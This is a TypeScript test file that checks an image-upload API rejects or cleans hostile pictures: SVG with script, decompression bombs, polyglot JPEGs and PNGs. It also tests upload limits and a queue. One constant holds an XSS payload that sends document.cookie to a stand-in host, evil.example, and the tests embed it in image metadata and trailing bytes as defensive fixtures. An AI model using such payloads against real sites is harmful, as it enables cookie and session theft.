import { EventEmitter } from 'node:events'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEMO_ACCOUNTS, DEMO_PASSWORD, seedAccounts } from '../../demo/accounts.ts'
import type { Database } from '../../server/database/database.ts'
import { uploadQueue } from '../../server/http/upload-queue.ts'
import { eachDatabase } from '../support/databases.ts'
import { blackPng, withPngText } from '../support/png.ts'
import { startTestApp, type TestApp } from './support.ts'

const dataUrl = (type: string, bytes: Uint8Array) =>
  `data:image/${type};base64,${Buffer.from(bytes).toString('base64')}`
const canvas = (width = 200, height = 160) =>
  sharp({ create: { width, height, channels: 3, background: { r: 15, g: 118, b: 110 } } })
const SCRIPT = '<html><script>fetch("https://evil.example/"+document.cookie)</script>'
/** The central directory's end of an empty archive: what an unpacker looks for from the back. */
const ZIP = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])

eachDatabase('hostile pictures', (open) => {
  let database: Database
  let test: TestApp
  let clock: Date
  const tokens = new Map<string, string>()

  beforeAll(async () => {
    database = await open()
    await seedAccounts(database)
    clock = new Date('2026-03-01T12:00:00Z')
    test = await startTestApp(database)
    for (const role of ['client', 'company', 'admin'] as const) tokens.set(role, await logIn(test, role))
  })
  afterAll(() => test.close())

  async function logIn({ app }: TestApp, role: string): Promise<string> {
    const email = DEMO_ACCOUNTS.find((account) => account.role === role)?.email
    const answer = await app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { email, password: DEMO_PASSWORD },
    })
    return `Bearer ${answer.json().data.access_token}`
  }
  const send = (image: unknown, role = 'client', { app }: TestApp = test) =>
    app.inject({
      method: 'POST',
      url: '/api/images',
      headers: { authorization: tokens.get(role) ?? '' },
      payload: { image },
    })
  async function keptOf(image: string): Promise<Buffer> {
    const answer = await send(image)
    expect(answer.statusCode).toBe(200)
    const served = await test.app.inject(answer.json().data.image.url)
    expect(served.headers).toMatchObject({ 'content-type': 'image/webp', 'x-content-type-options': 'nosniff' })
    return served.rawPayload
  }
  async function refused(image: string, sentence: string): Promise<void> {
    const answer = await send(image)
    expect(answer.statusCode).toBe(422)
    expect(answer.json()).toMatchObject({ status: 422, errors: { image: sentence } })
  }

  describe('what is refused', () => {
    it('a picture of 10 MB, in a sentence', async () => {
      const noise = Buffer.alloc(10_000_000, 7)
      noise.set([0xff, 0xd8, 0xff])
      await refused(dataUrl('jpeg', noise), 'A imagem passa de 8 MB. Escolha uma menor.')
    })

    it('a body over the limit, before it is parsed', async () => {
      const answer = await send(`data:image/png;base64,${'A'.repeat(20_000_000)}`)
      expect(answer.statusCode).toBe(413)
    })

    it('an SVG with a script, also with the type PNG', async () => {
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
      await refused(dataUrl('svg+xml', svg), 'Envie uma imagem JPEG, PNG ou WebP.')
      await refused(dataUrl('png', svg), 'O arquivo não é uma imagem JPEG, PNG ou WebP.')
    })

    it.each(['gif', 'tiff'] as const)('a %s, whatever it says that it is', async (type) => {
      await refused(
        dataUrl('webp', await canvas().toFormat(type).toBuffer()),
        'O arquivo não é uma imagem JPEG, PNG ou WebP.',
      )
    })

    it.each(['jpeg', 'png', 'webp'] as const)('a %s that breaks off in the middle', async (type) => {
      const noisy = sharp({ create: { width: 300, height: 300, channels: 3, background: '#fff', noise: NOISE } })
      const whole = await noisy.toFormat(type).toBuffer()
      await refused(
        dataUrl(type, whole.subarray(0, Math.floor(whole.length / 2))),
        'Não conseguimos abrir a imagem. Ela pode estar corrompida ou ser grande demais.',
      )
    })

    it('a PNG of a few kilobytes that unpacks to hundreds of megapixels', async () => {
      const bomb = blackPng(20_000, 20_000)
      expect(bomb.length).toBeLessThan(100_000)
      await refused(
        dataUrl('png', bomb),
        'Não conseguimos abrir a imagem. Ela pode estar corrompida ou ser grande demais.',
      )
    })

    it('leaves no file', () => {
      expect(existsSync(join(test.dataDir, 'images'))).toBe(false)
    })
  })

  describe('re-encoded pictures', () => {
    it.each([
      ['HTML after its end', async () => Buffer.concat([await canvas().jpeg().toBuffer(), Buffer.from(SCRIPT)])],
      [
        'an archive after its end',
        async () => Buffer.concat([await canvas().jpeg().toBuffer(), Buffer.from(SCRIPT), ZIP]),
      ],
      [
        'a script in its EXIF',
        () =>
          canvas()
            .jpeg()
            .withExif({ IFD0: { ImageDescription: SCRIPT } })
            .toBuffer(),
      ],
      ['a script in its comment', async () => withComment(await canvas().jpeg().toBuffer(), SCRIPT)],
    ])('a JPEG with %s keeps only its pixels', async (_what, make) => {
      const polyglot = await make()
      expect(polyglot.includes('evil.example')).toBe(true)
      const kept = await keptOf(dataUrl('jpeg', polyglot))
      expect(kept.includes('evil.example')).toBe(false)
      expect(kept.includes(ZIP.subarray(0, 4))).toBe(false)
      expect(await sharp(kept).metadata()).toMatchObject({ format: 'webp', width: 200, height: 160 })
    })

    it('a PNG with a script between its parts keeps only its pixels', async () => {
      const png = withPngText(await canvas().png().toBuffer(), SCRIPT)
      expect(png.includes('evil.example')).toBe(true)
      expect((await keptOf(dataUrl('png', png))).includes('evil.example')).toBe(false)
    })

    it('an animated WebP becomes one still picture', async () => {
      const frames = await Promise.all(['#f00', '#0f0', '#00f'].map((background) => frame(background)))
      const animated = await sharp(frames, { join: { animated: true } })
        .webp({ loop: 0 })
        .toBuffer()
      expect((await sharp(animated, { animated: true }).metadata()).pages).toBe(3)
      const metadata = await sharp(await keptOf(dataUrl('webp', animated)), { animated: true }).metadata()
      expect(metadata.pages ?? 1).toBe(1)
      expect(metadata).toMatchObject({ width: 64, height: 64 })
    })

    it('a JPEG with the type PNG is encoded like every picture', async () => {
      const kept = await keptOf(dataUrl('png', await canvas(150, 150).jpeg().toBuffer()))
      expect((await sharp(kept).metadata()).format).toBe('webp')
    })
  })

  describe('who may send', () => {
    it('nobody without a session, and the body is not read', async () => {
      const answer = await send(dataUrl('png', Buffer.alloc(9_000_000)), 'nobody')
      expect(answer.statusCode).toBe(401)
    })

    it.each(['client', 'company', 'admin'])('the role %s', async (role) => {
      expect((await send(dataUrl('png', await canvas(130, 130).png().toBuffer()), role)).statusCode).toBe(200)
    })

    it('each account up to its limit for a day, also if all arrive at once', async () => {
      const other = await startTestApp(
        { ...database, close: async () => undefined },
        { variables: { UPLOADS_PER_ACCOUNT: '3' }, now: () => clock },
      )
      // A session's time is the server's own: the tokens are made at the same clock.
      const authorization = { client: await logIn(other, 'client'), company: await logIn(other, 'company') }
      await database.query('DELETE FROM uploads')
      const image = dataUrl('png', await canvas(131, 131).png().toBuffer())
      const ask = (role: 'client' | 'company') =>
        other.app.inject({
          method: 'POST',
          url: '/api/images',
          headers: { authorization: authorization[role] },
          payload: { image },
        })
      const statuses = (await Promise.all(Array.from({ length: 8 }, () => ask('client')))).map((it) => it.statusCode)
      expect(statuses.filter((status) => status === 200)).toHaveLength(3)
      expect(statuses.filter((status) => status === 429)).toHaveLength(5)

      clock = new Date(clock.getTime() + 60 * 60_000)
      const late = await ask('client')
      expect(late.json()).toMatchObject({
        status: 429,
        retryAfter: 23 * 3600,
        detail: expect.stringContaining('amanhã'),
      })
      expect(late.headers['retry-after']).toBe(String(23 * 3600))
      expect((await ask('company')).statusCode).toBe(200)

      clock = new Date(clock.getTime() + 23 * 60 * 60_000)
      expect((await ask('client')).statusCode).toBe(200)
      await other.close()
    })
  })

  it('of many people at once wait in a short queue: 200 or 503 with Retry-After, and other calls are answered', async () => {
    const image = dataUrl('png', await canvas(900, 700).png().toBuffer())
    let isDone = false
    const answers = Promise.all(Array.from({ length: 1000 }, () => send(image))).finally(() => {
      isDone = true
    })
    const waits: number[] = []
    while (!isDone) {
      const start = performance.now()
      expect((await test.app.inject('/api/health')).statusCode).toBe(200)
      waits.push(performance.now() - start)
      // An injected request may need no I/O at all, and would then starve the uploads.
      await new Promise(setImmediate)
    }
    expect(waits.length).toBeGreaterThan(1)
    // Generous, because other tests run beside this one; without the queue it is as long as all uploads together.
    expect(Math.max(...waits)).toBeLessThan(10_000)
    const all = await answers
    const refused = all.filter(({ statusCode }) => statusCode !== 200)
    expect(refused.length).toBeLessThan(1000)
    for (const answer of refused) {
      expect([answer.statusCode, answer.headers['retry-after'], answer.json().code]).toEqual([503, '5', 'busy'])
    }
    expect((await send(image)).statusCode).toBe(200)
  })
})

describe('the queue of uploads', () => {
  const reply = () => ({ raw: new EventEmitter() })

  it('refuses an upload over its length before reading the body, and accepts more after an answer', () => {
    const queue = uploadQueue({ most: 2 })
    const [first, second, third] = [reply(), reply(), reply()]
    queue.enter(first)
    queue.enter(second)
    expect(() => queue.enter(third)).toThrow(expect.objectContaining({ statusCode: 503 }))
    first.raw.emit('close')
    queue.enter(third)
  })

  it('runs a few at a time', async () => {
    const queue = uploadQueue({ atOnce: 2 })
    let running = 0
    let most = 0
    const work = async () => {
      running += 1
      most = Math.max(most, running)
      await new Promise(setImmediate)
      running -= 1
    }
    await Promise.all(Array.from({ length: 9 }, () => queue.run(work)))
    expect(most).toBe(2)
  })
})

const NOISE = { type: 'gaussian', mean: 128, sigma: 40 } as const

const frame = (background: string) =>
  sharp({ create: { width: 64, height: 64, channels: 3, background } })
    .png()
    .toBuffer()

/** A COM segment right after the start of the image. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(comment.length + 2)
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, Buffer.from(comment), jpeg.subarray(2)])
}
